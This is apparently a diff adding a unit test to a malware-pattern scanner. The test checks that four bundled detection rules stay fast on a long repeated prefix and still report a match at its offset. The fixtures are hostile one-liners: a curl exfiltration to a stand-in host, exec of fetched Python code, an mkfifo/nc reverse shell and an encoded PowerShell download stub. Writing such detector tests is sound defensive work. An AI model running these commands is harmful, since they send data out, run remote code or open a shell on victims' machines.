@@ -154,6 +154,50 @@ static void first_look(void **state)
 	gh_yara_free(later);
 }
 
+/* Of the bundled rules: what begins a match over and over costs no more than other text, and a match behind it is found, at its place. */
+static void beginnings_without_end(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *unit, *match, *rule;
+	} t[] = {
+		{ "curl ", "\ncurl https://x.example/ -d @-\n", "environment_exfil" },
+		{ "requests.get(", "\nexec(requests.get('http://x.example/a').text)\n", "python_exec_fetched" },
+		{ "mkfifo /tmp/f; ", "\nmkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444\n",
+		  "reverse_shell_mkfifo" },
+		{ "powershell ",
+		  "\npowershell -nop -enc "
+		  "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n",
+		  "powershell_encoded" },
+	};
+	enum { SIZE = 200 << 10 };
+	char *p = malloc(SIZE + 400);
+	struct gh_yara *y = gh_yara_new((struct gh_span){ 0 }, 60);
+	assert_non_null(y);
+	for (size_t i = 0; i < GH_ROWS(t); i++)
+		for (unsigned found = 0; found < 2; found++) {
+			size_t unit = strlen(t[i].unit), n = 0;
+			for (; n + unit < SIZE; n += unit)
+				memcpy(p + n, t[i].unit, unit);
+			size_t at = n + 1;
+			n += found != 0 ? (size_t)snprintf(p + n, 400, "%s", t[i].match) : 0;
+			clock_t from = clock();
+			log_text[0] = '\0';
+			gh_yara_begin(y, GH_YARA_HERE, n, gh_span_str("x"));
+			gh_yara_put(y, GH_YARA_HERE, (struct gh_span){ (const uint8_t *)p, n }, 0, true);
+			assert_null(gh_yara_end(y, GH_YARA_HERE, on_hit, NULL));
+			assert_true(clock() - from < 2 * CLOCKS_PER_SEC);
+			char want[100];
+			(void)snprintf(want, sizeof want, "%s@%zu ", t[i].rule, at);
+			if (found == 0)
+				assert_null(strstr(log_text, t[i].rule));
+			else if (strstr(log_text, want) == NULL)
+				fail_msg("%s: %s", want, log_text);
+		}
+	free(p);
+	gh_yara_free(y);
+}
+
 /* Bytes that claim thousands of millions of architectures: their functions count no further than there could be. */
 static void counts_that_bytes_claim(void **state)
 {
@@ -262,6 +306,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = { cmocka_unit_test(blocks),
 					    cmocka_unit_test(first_look),
+					    cmocka_unit_test(beginnings_without_end),
 					    cmocka_unit_test(counts_that_bytes_claim),
 					    cmocka_unit_test(texts_for_people),
 					    cmocka_unit_test(damaged_rules),
